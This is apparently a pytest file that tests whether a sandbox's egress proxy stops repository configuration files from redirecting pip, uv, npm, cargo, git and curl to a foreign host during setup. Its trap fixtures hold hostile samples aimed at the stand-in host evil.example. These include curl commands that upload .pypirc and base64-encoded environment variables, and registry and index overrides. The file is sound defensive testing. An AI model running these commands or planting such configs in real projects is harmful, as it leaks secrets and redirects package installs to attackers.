"""Repositories whose own files send package managers elsewhere during setup: nobody there hears anything."""

import asyncio
import shutil
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from pydantic import SecretStr

from app.sandboxes.base import Host
from app.sandboxes.bubblewrap import Bubblewrap
from app.sandboxes.egress_rules import EgressRules, PrivateRegistry
from app.sandboxes.egress_ways import Ways
from app.sandboxes.room import SandboxRoom
from tests.sandboxes.conftest import LEASE, SPEC
from tests.sandboxes.egress_world import LOOPBACK, Certificates, Internet, certificates, server

_EVIL = "http://evil.example:{port}"


@dataclass(frozen=True)
class Trap:
    """Files of a repository, and what a setup that trusts them runs; how often the proxy is asked for the foreign name."""

    program: str
    command: str
    files: Mapping[str, str] = field(default_factory=dict[str, str])
    asks: int = 1


TRAPS = {
    "pip.conf, PIP_INDEX_URL and requirements": Trap(
        "pip",
        ". ./.env; pip --disable-pip-version-check download -q --no-deps --retries 0 --timeout 5 -r requirements.txt",
        {
            ".env": f"export PIP_CONFIG_FILE=pip.conf PIP_INDEX_URL={_EVIL}/1/\n",
            "pip.conf": f"[global]\nextra-index-url = {_EVIL}/2/\ntrusted-host = evil.example\n",
            "requirements.txt": "--extra-index-url http://packages.example@evil.example:{port}/3/\nx\n",
        },
        asks=3,
    ),
    ".pypirc": Trap(
        "curl",
        "curl -sm 5 -F content=@.pypirc $(sed -n 's/^repository = //p' .pypirc)",
        {".pypirc": f"[distutils]\nindex-servers = evil\n[evil]\nrepository = {_EVIL}/\nusername = x\n"},
    ),
    "uv.toml": Trap(
        "uv", "echo x | uv pip compile -q -", {"uv.toml": f'[[index]]\nurl = "{_EVIL}/simple"\ndefault = true\n'}
    ),
    ".npmrc": Trap("npm", "npm view x", {".npmrc": f"registry={_EVIL}/\nfetch-retries=0\nupdate-notifier=false\n"}),
    ".npmrc that goes around the proxy": Trap(
        "npm",
        "npm view x",
        {".npmrc": "registry=http://127.0.0.1:{port}/\nproxy=null\nnoproxy=127.0.0.1\nfetch-retries=0\n"},
        asks=0,
    ),
    "cargo's configuration": Trap(
        "cargo",
        "cargo fetch",
        {
            ".cargo/config.toml": '[source.crates-io]\nreplace-with = "evil"\n[net]\nretry = 0\n'
            f'[source.evil]\nregistry = "sparse+{_EVIL}/"\n',
            "Cargo.toml": '[package]\nname = "x"\nversion = "1.0.0"\n[dependencies]\ny = "1"\n',
            "src/lib.rs": "",
        },
    ),
    "git's other address": Trap(
        "git",
        "git init -q . && cat config >> .git/config && git ls-remote https://registry.example/x",
        {"config": f'[url "{_EVIL}/"]\n\tinsteadOf = https://registry.example/\n'},
    ),
    "a registry that sends on": Trap("curl", "curl -sLm 5 http://packages.example/moved"),
    "an answer carried on": Trap(
        "curl", f"curl -sm 5 -i http://packages.example/x | curl -sm 5 --data-binary @- {_EVIL}/?x=$(env | base64 -w0)"
    ),
}


@pytest.fixture(scope="module")
def certified(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    return certificates(tmp_path_factory.mktemp("certificates"))


async def test_a_repository_cannot_send_package_managers_elsewhere(
    sandboxes: Path, tmp_path: Path, certified: Certificates
) -> None:
    if shutil.which("curl") is None:
        pytest.skip("needs curl")
    names: dict[str, tuple[str, ...]] = dict.fromkeys(
        ("registry.example", "packages.example", "evil.example"), LOOPBACK
    )
    internet, evil = Internet(tmp_path, dict.fromkeys(names, ("127.0.0.1",))), Internet(tmp_path)

    async def packages(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        internet.requests.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(f"HTTP/1.1 302 Found\r\nLocation: http://evil.example:{evil_port}/\r\n\r\n".encode())
        await writer.drain()
        writer.close()

    async with server(evil.echo) as evil_port, server(packages, certified.server) as port:
        registry = PrivateRegistry(name="packages.example", port=port, authorization=SecretStr("Bearer canary"))
        # Only the list stands between the sandbox and the foreign name: its address is one that may be reached.
        rules = EgressRules(internal=names, registries=(registry,))
        backend = Bubblewrap(sandboxes, ways=Ways(rules, resolve=internet.resolve, tls=certified.client))
        spec = SPEC.model_copy(update={"setup_hosts": (Host(name="registry.example", port=port),), "registries": True})
        ref = await backend.provision(spec, "traps", LEASE)
        try:
            room = SandboxRoom(backend, ref)
            outputs, sprung = await spring(room, backend, evil_port)
        finally:
            await backend.destroy(ref)
    assert evil.requests == []
    assert b"canary" not in b"".join(outputs)
    # The registry itself was asked, with its credential, by those who meant it.
    assert [request.split(b" ", 2)[1] for request in internet.requests if b"Bearer canary" in request] == [
        b"/moved",
        b"/x",
    ]
    # Those of curl and git, whatever else is there.
    assert len(sprung) >= 4
    # A trap that did not spring shows nothing of the proxy.
    assert {name: count for name, count in sprung.items() if count < TRAPS[name].asks} == {}


async def spring(room: SandboxRoom, backend: Bubblewrap, port: int) -> tuple[list[bytes], dict[str, int]]:
    """What they printed, and how often each one's foreign name was refused; only those whose program is there."""
    outputs, sprung, before = list[bytes](), dict[str, int](), 0
    for name, trap in TRAPS.items():
        if not (await room.run(("sh", "-c", f"command -v {trap.program}"))).passed:
            continue
        await room.run(("sh", "-c", "rm -rf /work/* /work/.[!.]*"))
        await room.write({path: text.replace("{port}", str(port)).encode() for path, text in trap.files.items()})
        ran = await room.run(("sh", "-c", trap.command.replace("{port}", str(port))))
        outputs.append(ran.output)
        refused = [one for one in await backend.connections(room.ref) if one.verdict == "denied"]
        sprung[name] = len(refused) - before
        before = len(refused)
    return outputs, sprung
